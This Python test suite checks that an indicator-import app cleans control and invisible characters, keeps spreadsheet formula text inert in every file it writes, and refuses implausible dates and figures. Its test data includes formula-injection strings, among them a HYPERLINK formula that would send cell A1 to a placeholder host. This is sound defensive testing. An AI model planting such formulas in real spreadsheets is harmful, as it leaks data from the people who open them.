"""What a file's text and figures may bring in: control and invisible characters are cleaned at the
door and named; text that a spreadsheet would run as a formula stays text in every file the app
writes; report dates and figures out of any sane range are refused with the cell named."""
import datetime as dt
import sys
import tomllib
import unicodedata
import zipfile

import pandas as pd
import pytest
from conftest import TINY_CATALOGUE, connect_ro, fact
from hostile_files import _xlsx

from indicators.ingest.importer import plan_import
from indicators.ingest.template import write_catalogue_workbook, write_template, write_workbook
from indicators.store.database import PROJECT_DIR
from indicators.text import HIDDEN, hidden_characters, visible
from indicators.views.export import briefing_html, table_to_xlsx

TODAY = dt.date.today()


def plan_of(tiny_db, path):
    with connect_ro(tiny_db) as con:
        return plan_import(con, path, new_indicators=True)


def csv_file(path, *rows):
    header = "Huyện,Năm,Kỳ báo cáo,Mã chỉ tiêu,Tên chỉ tiêu,Đơn vị tính,Kế hoạch,Thực hiện,Ghi chú,Ngày báo cáo"
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def test_every_control_and_invisible_character_is_known():
    """The pattern covers every control (Cc) and format (Cf) character this Python knows of."""
    missing = [f"U+{c:04X}" for c in range(sys.maxunicode + 1)
               if unicodedata.category(chr(c)) in ("Cc", "Cf") and chr(c) not in "\t\n\r\x85"
               and not HIDDEN.match(chr(c))]
    assert missing == []
    assert visible("Thu\u200bngân\u202esách\x07\tnhà nước") == "Thungânsách nhà nước"
    assert visible("dòng một\r\ndòng hai\x0c", keep_lines=True) == "dòng một\ndòng hai"
    assert hidden_characters("a\u200bb\u200bc\x07") == ["U+200B", "U+0007"]


def test_control_and_invisible_characters_are_cleaned_and_named(tiny_db, tmp_path):
    path = csv_file(tmp_path / "ky_tu_an.csv",
                    "Văn Quan,2024,9 tháng,,Chi\x07 thường xuyên,triệu đồng,100,90,,01/10/2024",
                    "Bắc Sơn,2024,9 tháng,trong\u200b_rung,,,,55,Ghi\u202e chú,01/10/2024")
    plan = plan_of(tiny_db, path)
    assert plan.ok, [p.describe() for p in plan.read.errors]
    frame = plan.read.frame.set_index("district")
    assert frame.loc["Văn Quan", "indicator_name"] == "Chi thường xuyên"
    assert frame.loc["Bắc Sơn", "indicator_code"] == "trong_rung"  # the catalogue's, not a look-alike
    assert frame.loc["Bắc Sơn", "note"] == "Ghi chú"
    named = {(p.row, p.column): p.describe() for p in plan.read.warnings if "ký tự" in p.message}
    assert "U+0007" in named[(2, "E – Tên chỉ tiêu")] and "Trang 'ky_tu_an', dòng 2" in named[(2, "E – Tên chỉ tiêu")]
    assert "U+200B" in named[(3, "D – Mã chỉ tiêu")]
    assert "U+202E" in named[(3, "I – Ghi chú")]


def test_an_xlsx_escape_for_a_control_character_is_cleaned_too(tiny_db, tmp_path):
    """Excel writes \\x07 as _x0007_ in the file; the reader decodes it."""
    cells = [("Huyện", "Văn Quan"), ("Năm", "2024"), ("Kỳ báo cáo", "9 tháng"), ("Tên chỉ tiêu", "Chi_x0007_ đầu tư"),
             ("Đơn vị tính", "triệu đồng"), ("Thực hiện", "12")]

    def row(r, values):
        return (f'<row r="{r}">' + "".join(f'<c r="{chr(65 + i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>'
                                           for i, v in enumerate(values)) + "</row>").encode()

    path = _xlsx(tmp_path / "x0007.xlsx", [row(1, [h for h, _ in cells]), row(2, [v for _, v in cells])])
    plan = plan_of(tiny_db, path)
    assert plan.ok, [p.describe() for p in plan.read.errors]
    assert plan.read.frame["indicator_name"].tolist() == ["Chi đầu tư"]
    assert any("U+0007" in p.message and p.row == 2 for p in plan.read.warnings)


def _formulas_in(path_or_bytes) -> list[str]:
    """Every sheet's formula elements: a formula-like text written as text leaves none."""
    with zipfile.ZipFile(path_or_bytes) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


def test_every_file_the_app_writes_keeps_formula_text_inert(tmp_path):
    hostile = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+2", "-3+4", "@SUM(A1)", "\t=1"]
    catalogue = [{**TINY_CATALOGUE[0], "code": f"c{i}", "name": name, "description": name + "\x07"}
                 for i, name in enumerate(hostile)]
    template = write_template(tmp_path / "mau.xlsx", catalogue)
    data = write_workbook(tmp_path / "so_lieu.xlsx", [fact("Văn Quan", 2024, "9M", "c0", hostile[0], TODAY, hostile[3],
                                                           note="-ghi chú")], catalogue)
    alone = write_catalogue_workbook(tmp_path / "danh_muc.xlsx", catalogue)
    exported = tmp_path / "bang.xlsx"
    exported.write_bytes(table_to_xlsx(pd.DataFrame({"Tên": hostile, "Số": [1.5] * len(hostile)})))
    for path in (template, data, alone, exported):
        assert _formulas_in(path) == [], path.name
    from openpyxl import load_workbook

    names = [c.value for c in load_workbook(template)["Danh mục chỉ tiêu"]["B"][1:]]
    assert sorted(names) == sorted(hostile)  # the text itself is kept as typed
    page = briefing_html("Tài liệu họp", [], [], pd.DataFrame({"Nguồn": hostile}))
    assert "<td>=HYPERLINK" not in page and "<td>'=HYPERLINK" in page and "<td>'@SUM(A1)" in page


def test_streamlits_own_table_download_is_switched_off():
    """st.dataframe's toolbar 'Download as CSV' writes '=…' cells as they are: export is disabled
    (a public option since Streamlit 1.52; get_option fails if a later version drops it)."""
    from streamlit import config

    settings = tomllib.loads((PROJECT_DIR / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True
    assert config.get_option("client.disableDataExport") in (True, False)


@pytest.mark.parametrize("typed, accepted", [("31/12/9999", False), ("15/06/1999", False),
                                             ((TODAY + dt.timedelta(days=10)).strftime("%d/%m/%Y"), True),
                                             ("01/10/2024", True)])
def test_a_report_date_out_of_the_window_is_refused(tiny_db, tmp_path, typed, accepted):
    plan = plan_of(tiny_db, csv_file(tmp_path / "ngay.csv", f"Tràng Định,2024,9 tháng,trong_rung,,,,55,,{typed}"))
    assert plan.ok is accepted, [p.describe() for p in plan.read.problems]
    if not accepted:
        (problem,) = plan.read.errors
        assert problem.row == 2 and problem.column == "J – Ngày báo cáo" and "ngày báo cáo phải từ 01/01/2000" in \
            problem.message and typed in problem.describe()


@pytest.mark.parametrize("code, unit, plan_value, actual, message", [
    ("trong_rung", "", "", "1.7e308", "số quá lớn"),
    ("thu_ngan_sach", "", "", "2.000.000.000.000", "số quá lớn"),
    ("ty_le_ngheo_da_chieu", "", "", "5.000", "số liệu tính bằng % phải trong khoảng"),
])
def test_figures_beyond_plausible_bounds_are_refused(tiny_db, tmp_path, code, unit, plan_value, actual, message):
    path = tmp_path / "so.xlsx"
    value = float(actual) if "e" in actual else actual
    write_workbook(path, [fact("Bắc Sơn", 2024, "9M", code, "bc", dt.date(2024, 10, 1), "q", actual=value)],
                   TINY_CATALOGUE)
    plan = plan_of(tiny_db, path)
    assert not plan.ok
    (problem,) = plan.read.errors
    assert message in problem.message and problem.row == 2 and problem.column == "H – Thực hiện"
    assert len(problem.describe()) < 300  # 1.7e308 is shown as '1,7e+308', not three hundred digits


def test_a_percentage_of_plan_beyond_bounds_is_refused_and_a_plausible_one_kept(tiny_db, tmp_path):
    path = tmp_path / "ty_le.xlsx"
    write_workbook(path, [fact("Văn Quan", 2024, "9M", "trong_rung", "bc", dt.date(2024, 10, 1), "q",
                               pct_of_plan=1e7),
                          fact("Bắc Sơn", 2024, "9M", "trong_rung", "bc", dt.date(2024, 10, 1), "q",
                               pct_of_plan=250)], TINY_CATALOGUE)
    plan = plan_of(tiny_db, path)
    (problem,) = plan.read.errors
    assert problem.row == 2 and "tỷ lệ quá lớn" in problem.message
    assert plan.read.frame["pct_of_plan"].tolist() == [250]
